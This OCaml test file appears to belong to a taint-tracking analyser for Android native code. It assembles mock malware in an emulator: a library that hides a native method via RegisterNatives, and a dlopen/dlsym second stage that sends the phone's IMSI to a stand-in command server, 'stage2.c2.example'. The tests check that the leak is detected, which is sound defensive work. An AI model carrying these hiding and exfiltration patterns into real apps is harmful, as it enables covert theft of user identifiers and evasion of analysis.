(* Dynamic native-code loading: JNI_OnLoad + RegisterNatives, and
   dlopen/dlsym second stages — the "hide the program logic and impede
   reverse engineering" patterns the paper's introduction attributes to
   NDK malware. *)

module Device = Ndroid_runtime.Device
module Machine = Ndroid_emulator.Machine
module Layout = Ndroid_emulator.Layout
module Vm = Ndroid_dalvik.Vm
module Dvalue = Ndroid_dalvik.Dvalue
module J = Ndroid_dalvik.Jbuilder
module B = Ndroid_dalvik.Bytecode
module Asm = Ndroid_arm.Asm
module Insn = Ndroid_arm.Insn
module Taint = Ndroid_taint.Taint
module H = Ndroid_apps.Harness

let tv ?(taint = Taint.clear) v : Vm.tval = (v, taint)
let int32 n = Dvalue.Int (Int32.of_int n)
let mov rd rm = Asm.I (Insn.mov rd (Insn.Reg rm))
let movi rd v = Asm.I (Insn.mov rd (Insn.Imm v))

let boot classes libs =
  let device = Device.create () in
  Device.install_classes device classes;
  List.iter
    (fun (name, build) ->
      Device.provide_library device name (build Device.host_fn_addr))
    libs;
  device

(* ---- RegisterNatives: the dex declares secretOp, the library exports only
   JNI_OnLoad and binds secretOp to an unexported routine at load time ---- *)

let reg_cls = "LDyn;"

let regnatives_lib extern =
  Asm.assemble ~extern ~base:Layout.app_lib_base
    [ Asm.Label "JNI_OnLoad";
      Asm.I (Insn.push [ Insn.r4; Insn.lr ]);
      Asm.I (Insn.mov 9 (Insn.Reg 0));
      (* cls = FindClass("LDyn;") *)
      Asm.La (1, "cls_n");
      Asm.Call "FindClass";
      mov 1 0;
      (* build the JNINativeMethod table in place: {name, sig, fnPtr} *)
      Asm.La (2, "nm_table");
      Asm.La (3, "m_name");
      Asm.I (Insn.str 3 2 0);
      Asm.La (3, "m_sig");
      Asm.I (Insn.str 3 2 4);
      Asm.La (3, "hidden_impl");
      Asm.I (Insn.str 3 2 8);
      (* RegisterNatives(env, cls, table, 1) *)
      movi 3 1;
      mov 0 9;
      Asm.Call "RegisterNatives";
      movi 0 4 (* JNI_VERSION-ish *);
      Asm.I (Insn.pop [ Insn.r4; Insn.pc ]);
      (* the unexported implementation: int secretOp(int) = x * 3 *)
      Asm.Label "hidden_impl";
      Asm.I (Insn.add 0 2 (Insn.Reg_shift_imm (2, Insn.LSL, 1)));
      Asm.I Insn.bx_lr;
      Asm.Align4;
      Asm.Label "cls_n";
      Asm.Asciz "LDyn;";
      Asm.Label "m_name";
      Asm.Asciz "secretOp";
      Asm.Label "m_sig";
      Asm.Asciz "(I)I";
      Asm.Label "nm_table";
      Asm.Word 0;
      Asm.Word 0;
      Asm.Word 0 ]

let test_register_natives () =
  let device =
    boot
      [ J.class_ ~name:reg_cls
          [ (* the declared symbol does NOT exist in the library *)
            J.native_method ~cls:reg_cls ~name:"secretOp" ~shorty:"II"
              "Java_LDyn_secretOp" ] ]
      [ ("dyn", regnatives_lib) ]
  in
  Device.load_library device "dyn";
  let v, _ = Device.run device reg_cls "secretOp" [| tv (int32 14) |] in
  Alcotest.(check bool) "bound via RegisterNatives" true (Dvalue.equal v (int32 42))

let test_unregistered_still_fails () =
  let device =
    boot
      [ J.class_ ~name:reg_cls
          [ J.native_method ~cls:reg_cls ~name:"secretOp" ~shorty:"II"
              "Java_LDyn_secretOp" ] ]
      [ ("dyn", regnatives_lib) ]
  in
  (* library never loaded: JNI_OnLoad never ran *)
  Alcotest.(check bool) "UnsatisfiedLinkError" true
    (match Device.run device reg_cls "secretOp" [| tv (int32 14) |] with
     | exception Vm.Dvm_error _ -> true
     | _ -> false)

(* ---- dlopen/dlsym: a stage-1 library loads stage 2 at runtime and calls
   into it by function pointer; the tainted flow crosses both ---- *)

let dl_cls = "LStaged;"

let stage2_lib extern =
  Asm.assemble ~extern ~base:(Layout.app_lib_base + 0x10000)
    [ (* int stage2_exfil(char* data, int len): send it out *)
      Asm.Label "stage2_exfil";
      Asm.I (Insn.push [ Insn.r4; Insn.r5; Insn.r6; Insn.lr ]);
      Asm.I (Insn.mov 4 (Insn.Reg 0));
      Asm.I (Insn.mov 5 (Insn.Reg 1));
      Asm.Call "socket";
      Asm.I (Insn.mov 6 (Insn.Reg 0));
      Asm.La (1, "s2dest");
      Asm.Call "connect";
      mov 0 6;
      mov 1 4;
      mov 2 5;
      Asm.Call "send";
      movi 0 0;
      Asm.I (Insn.pop [ Insn.r4; Insn.r5; Insn.r6; Insn.pc ]);
      Asm.Align4;
      Asm.Label "s2dest";
      Asm.Asciz "stage2.c2.example" ]

let stage1_lib extern =
  Asm.assemble ~extern ~base:Layout.app_lib_base
    [ (* void drop(String secret) *)
      Asm.Label "drop";
      Asm.I (Insn.push [ Insn.r4; Insn.r5; Insn.r6; Insn.lr ]);
      Asm.I (Insn.mov 9 (Insn.Reg 0));
      (* chars/len *)
      mov 1 2;
      movi 2 0;
      Asm.Call "GetStringUTFChars";
      Asm.I (Insn.mov 4 (Insn.Reg 0));
      Asm.Call "strlen";
      Asm.I (Insn.mov 5 (Insn.Reg 0));
      (* handle = dlopen("libstage2.so"); fn = dlsym(handle, "stage2_exfil") *)
      Asm.La (0, "s2name");
      movi 1 0;
      Asm.Call "dlopen";
      mov 0 0;
      Asm.La (1, "s2sym");
      Asm.Call "dlsym";
      Asm.I (Insn.mov 6 (Insn.Reg 0));
      (* fn(chars, len) by pointer *)
      mov 0 4;
      mov 1 5;
      Asm.I (Insn.blx_reg 6);
      movi 0 0;
      Asm.I (Insn.pop [ Insn.r4; Insn.r5; Insn.r6; Insn.pc ]);
      Asm.Align4;
      Asm.Label "s2name";
      Asm.Asciz "libstage2.so";
      Asm.Label "s2sym";
      Asm.Asciz "stage2_exfil" ]

let staged_classes =
  [ J.class_ ~name:dl_cls
      [ J.native_method ~cls:dl_cls ~name:"drop" ~shorty:"VL" "drop";
        J.method_ ~cls:dl_cls ~name:"main" ~shorty:"V"
          [ J.I (B.Invoke (B.Static,
                           { B.m_class = "Landroid/telephony/TelephonyManager;";
                             m_name = "getSubscriberId" }, []));
            J.I (B.Move_result 0);
            J.I (B.Invoke (B.Static, { B.m_class = dl_cls; m_name = "drop" }, [ 0 ]));
            J.I B.Return_void ] ] ]

let staged_device () =
  let device = boot staged_classes [ ("stage1", stage1_lib); ("stage2", stage2_lib) ] in
  Device.load_library device "stage1";
  device

let test_dlopen_second_stage_flow () =
  let device = staged_device () in
  let nd = Ndroid_core.Ndroid.attach device in
  ignore (Device.run device dl_cls "main" [||]);
  (* the IMSI crossed stage 1, a dlopen boundary, and stage 2's send *)
  match Ndroid_core.Ndroid.leaks nd with
  | [ leak ] ->
    Alcotest.(check string) "caught at stage-2 send" "send"
      leak.Ndroid_android.Sink_monitor.sink;
    Alcotest.(check bool) "imsi tag" true
      (Taint.equal leak.Ndroid_android.Sink_monitor.taint Taint.imsi);
    Alcotest.(check string) "dest is the stage-2 C2" "stage2.c2.example"
      leak.Ndroid_android.Sink_monitor.detail
  | leaks -> Alcotest.failf "expected 1 leak, got %d" (List.length leaks)

let test_dlopen_unknown_returns_zero () =
  let device = staged_device () in
  let machine = Device.machine device in
  let mem = Machine.mem machine in
  Ndroid_arm.Memory.write_cstring mem 0x30000000 "libnothere.so";
  let dlopen = Machine.host_fn_addr machine "dlopen" in
  let h, _ = Machine.call_native machine ~addr:dlopen ~args:[ 0x30000000; 0 ] () in
  Alcotest.(check int) "NULL handle" 0 h

let suite =
  [ Alcotest.test_case "RegisterNatives binds hidden impl" `Quick
      test_register_natives;
    Alcotest.test_case "unloaded lib still fails" `Quick
      test_unregistered_still_fails;
    Alcotest.test_case "dlopen second-stage flow caught" `Quick
      test_dlopen_second_stage_flow;
    Alcotest.test_case "dlopen of unknown lib" `Quick
      test_dlopen_unknown_returns_zero ]
